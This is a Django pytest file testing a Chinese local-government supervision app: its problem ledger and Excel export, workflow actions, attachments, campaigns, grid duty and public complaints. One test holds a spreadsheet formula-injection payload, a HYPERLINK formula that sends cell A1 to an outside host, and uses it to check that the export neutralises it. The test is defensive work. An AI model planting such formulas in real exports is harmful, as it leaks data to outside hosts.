"""Supervision pages: ledger (overdue first) and export, problem page and actions, statistics, campaigns,
grids and duty, assessment, complaints and the public form."""

import re
from datetime import date, timedelta

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from openpyxl import load_workbook

from fupin.core.models import Region
from fupin.supervision import services
from fupin.supervision.enums import PROBLEMS
from fupin.supervision.models import Complaint, Problem

from .conftest import PDF, PNG


@pytest.fixture
def as_user(client):
    def login(user):
        client.force_login(user)
        return client

    return login


@pytest.fixture
def grid(dispatcher):
    return services.create_grid(dispatcher, name="金山路网格", region=Region.objects.get(code="370828107000"))


def test_ledger_overdue_first_and_export(as_user, inspector, sima_officer, problem, campaign, tmp_path):
    late = services.open_problem(
        inspector,
        use="projects",
        category="funds",
        title="账目不清",
        region_code="370828107200",
        found_on=date(2025, 5, 6),
        campaign=campaign,
    )
    services.transition(
        inspector, late, "assign", unit="司马镇", deadline=date(2025, 5, 9), today=date(2025, 5, 6)
    )
    client = as_user(inspector)
    page = client.get("/problems/").context["page"]
    assert [p.number for p in page] == [late.number, problem.number]
    html = client.get("/problems/", {"overdue": "yes"}).content.decode()
    assert "账目不清" in html and "大棚墙体开裂" not in html and "逾期" in html
    response = client.get("/problems/export.xlsx")
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    rows = list(load_workbook(path, read_only=True).active.iter_rows(values_only=True))
    assert rows[0][:4] == ("编号", "发现日期", "所属镇街", "问题类别") and len(rows) == 3
    assert rows[1][10] == "是"  # the overdue one comes first


def test_problem_page_actions_and_attachment_download(as_user, inspector, sima_officer, problem):
    client = as_user(inspector)
    html = client.get(f"/problems/{problem.pk}/").content.decode()
    assert "交办" in html and "大棚墙体开裂" in html
    deadline = (timezone.localdate() + timedelta(days=60)).isoformat()
    client.post(
        f"/problems/{problem.pk}/action/",
        {
            "action": "assign",
            "unit": "司马镇人民政府",
            "person": sima_officer.pk,
            "deadline": deadline,
            "beyond_campaign_end": "on",
        },
    )
    unit = as_user(sima_officer)
    unit.post(f"/problems/{problem.pk}/action/", {"action": "start"})
    response = unit.post(
        f"/problems/{problem.pk}/action/", {"action": "submit", "comment": "已整改"}, follow=True
    )
    assert "至少需要一张" in response.content.decode()
    unit.post(
        f"/problems/{problem.pk}/action/",
        {"action": "submit", "comment": "已整改", "attachments": SimpleUploadedFile("report.pdf", PDF)},
    )
    problem.refresh_from_db()
    assert problem.state == "pending_verification"
    attachment = problem.events.get(action="submit").attachments.get()
    download = unit.get(f"/attachments/{attachment.pk}/")
    # A PDF is shown inline under its original name, with its checked type and nosniff; stored as ours.
    assert download["Content-Type"] == "application/pdf" and download["Content-Disposition"].startswith(
        "inline"
    )
    assert 'filename="report.pdf"' in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert attachment.name == "report.pdf" and attachment.file.name != "report.pdf"


def test_outsiders_get_404(as_user, jishu_officer, problem):
    client = as_user(jishu_officer)
    assert client.get(f"/problems/{problem.pk}/").status_code == 404
    event = problem.events.first()
    from fupin.supervision.models import Attachment

    attachment = Attachment.objects.create(
        event=event,
        file=SimpleUploadedFile("a.png", PNG),
        name="a.png",
        content_type="image/png",
        size=len(PNG),
    )
    assert client.get(f"/attachments/{attachment.pk}/").status_code == 404


def test_statistics_page(as_user, inspector, problem):
    html = as_user(inspector).get("/problems/statistics/", {"group": "town"}).content.decode()
    assert "动态清零率" in html and "chart-data" in html and "司马镇" in html


def test_campaign_pages_and_check_on_a_phone_form(as_user, inspector, grid):
    client = as_user(inspector)
    assert client.get("/campaigns/new/").status_code == 200
    today = timezone.localdate()
    response = client.post(
        "/campaigns/new/",
        {
            "name": "创城攻坚",
            "use": "urban",
            "region": "370828107000",
            "start": today.isoformat(),
            "end": (today + timedelta(days=30)).isoformat(),
            "aspect": ["road"],
            "text": ["无占道经营"],
            "method": ["site"],
        },
    )
    campaign_url = response["Location"]
    html = client.get(campaign_url).content.decode()
    assert "金山路网格" in html and "已检查 0 / 1" in html
    check_url = f"{campaign_url}check/{grid.pk}/"
    item = client.get(check_url).context["items"][0]
    response = client.post(check_url, {f"item-{item.pk}": "problem", f"note-{item.pk}": ""}, follow=True)
    assert "请描述" in response.content.decode()
    client.post(check_url, {f"item-{item.pk}": "problem", f"note-{item.pk}": "水果摊占道"})
    assert Problem.objects.get().title == "无占道经营：水果摊占道"
    assert "已检查 1 / 1" in client.get(campaign_url).content.decode()
    assert "创城攻坚" in client.get("/campaigns/").content.decode()


def test_grid_duty_and_assessment(as_user, dispatcher, staff, grid):
    client = as_user(dispatcher)
    client.post("/grids/", {"name": "奎星路网格", "region": "370828107000", "area": "奎星路"})
    assert "奎星路网格" in client.get("/grids/").content.decode()
    client.post(
        f"/grids/{grid.pk}/",
        {
            "staff": staff.pk,
            "start": "2025-05-06T08:00",
            "end": "2025-05-06T12:00",
            "duties": "巡查",
            "points": "3",
        },
    )
    response = client.post(
        f"/grids/{grid.pk}/",
        {"staff": staff.pk, "start": "2025-05-06T10:00", "end": "2025-05-06T14:00", "duties": "巡查"},
        follow=True,
    )
    assert "已在" in response.content.decode()
    rows = client.get("/grids/assessment/", {"month": "2025-05"}).context["rows"]
    assert rows[0]["points"] == 3 and rows[0]["score"] == 83


def test_complaints_public_form_status_and_decision(client, as_user, inspector, jinxiang):
    from django.core.cache import cache

    cache.clear()
    html = client.get("/public/complaint/").content.decode()
    assert "投诉举报" in html and "司马镇" in html
    response = client.post("/public/complaint/", {"region": "370828107000", "content": "短"})
    assert "至少 10 个字" in response.content.decode()
    client.post("/public/complaint/", {"region": "370828107000", "content": "某村光伏收益被挪作他用，请查处"})
    complaint = Complaint.objects.get()
    assert (
        complaint.code in client.get("/public/complaint/status/", {"code": complaint.code}).content.decode()
    )
    assert "没有该查询码" in client.get("/public/complaint/status/", {"code": "XXXX"}).content.decode()
    staff = as_user(inspector)
    assert complaint.code in staff.get("/complaints/").content.decode()
    staff.post(
        f"/complaints/{complaint.pk}/decide/",
        {"decision": "accept", "category": "projects:benefits", "title": "光伏收益挪用"},
    )
    complaint.refresh_from_db()
    assert complaint.state == "accepted" and complaint.problem.title == "光伏收益挪用"


def test_report_a_problem_page(as_user, staff, grid):
    client = as_user(staff)
    assert client.get("/problems/new/").status_code == 200
    response = client.post(
        "/problems/new/",
        {
            "use": "urban",
            "category": "parking",
            "title": "乱停车",
            "grid": grid.pk,
            "found_on": timezone.localdate().isoformat(),
        },
    )
    problem = Problem.objects.get()
    assert response["Location"] == f"/problems/{problem.pk}/" and problem.region_code == "370828107000"


def test_the_ledger_export_writes_a_formula_title_as_text_and_survives_control_characters(
    as_user, inspector, campaign, tmp_path
):
    formula = '=HYPERLINK("http://x/?"&A1,"点击查看详情")'
    for title in (formula, "控制字符"):
        services.open_problem(
            inspector,
            use="projects",
            category="funds",
            title=title,
            region_code="370828107200",
            found_on=date(2025, 5, 6),
            campaign=campaign,
        )
    # A row from before control characters were refused on input.
    Problem.objects.filter(title="控制字符").update(title="控制\x01字符")

    response = as_user(inspector).get("/problems/export.xlsx")

    assert response.status_code == 200
    path = tmp_path / "ledger.xlsx"
    path.write_bytes(b"".join(response.streaming_content))
    titles = {row[4].value: row[4] for row in load_workbook(path).active.iter_rows(min_row=2)}
    assert set(titles) == {formula, "控制字符"}
    assert titles[formula].data_type == "s" and titles[formula].quotePrefix


def action_options(response) -> list[str]:
    html = response.content.decode()
    select = re.search(r'<select[^>]*name="action"[^>]*>(.*?)</select>', html, re.S)
    return re.findall(r'<option value="(\w+)"', select.group(1)) if select else []


def test_the_problem_page_offers_exactly_the_steps_the_workflow_allows_each_role(
    as_user, inspector, sima_officer, problem
):
    services.transition(
        inspector,
        problem,
        "assign",
        unit="司马镇人民政府",
        person=sima_officer,
        deadline=timezone.localdate() + timedelta(days=20),
        beyond_campaign_end=True,
    )
    url = f"/problems/{problem.pk}/"
    problem.refresh_from_db()

    assert action_options(as_user(inspector).get(url)) == ["duplicate", "suspend", "extend"]
    assert action_options(as_user(sima_officer).get(url)) == ["send_back", "start", "request_extension"]
    for user in (inspector, sima_officer):
        allowed = [s.action for s in PROBLEMS.allowed(user, problem) if s.action != "comment"]
        assert action_options(as_user(user).get(url)) == allowed


def test_the_complaint_list_offers_the_steps_of_each_complaints_state(as_user, inspector, sima_officer):
    complaint = services.receive_complaint(
        None, channel="letter", content="反映某村光伏收益被挪作他用，请调查", region_code="370828107200"
    )
    client = as_user(inspector)

    def decisions():
        card = re.search(
            rf'data-testid="complaint-{complaint.code}"(.*?)</div></div>',
            client.get("/complaints/").content.decode(),
            re.S,
        )
        return re.findall(r'name="decision" value="(\w+)"', card.group(1))

    assert decisions() == ["accept", "dismiss"]
    problem = services.accept_complaint(
        inspector, complaint, use="projects", category="benefits", title="挪用"
    )
    assert decisions() == []  # the reply waits for the problem to be closed
    Problem.objects.filter(pk=problem.pk).update(state="closed")
    assert decisions() == ["answer"]
